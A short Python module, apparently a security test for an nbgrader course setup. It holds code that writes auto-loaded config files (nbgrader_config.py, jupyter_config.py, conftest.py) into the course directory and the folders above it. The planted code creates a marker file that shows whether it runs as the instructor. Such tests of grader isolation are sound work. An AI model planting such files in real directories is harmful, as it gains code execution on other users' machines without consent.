"""Writes nbgrader_config.py and other files into the class directory and the folders above."""

FIRST = """
import pathlib
evil = "import pathlib; pathlib.Path('@COURSE@/run-by-the-instructor').touch()\\n"
for folder in ("@COURSE@", ".", "..", "../..", "@COURSE@/submitted"):
    for name in ("nbgrader_config.py", "jupyter_config.py", "conftest.py"):
        try:
            pathlib.Path(folder, name).write_text(evil)
            print("written", folder, name)
        except OSError as error:
            print(error)
"""
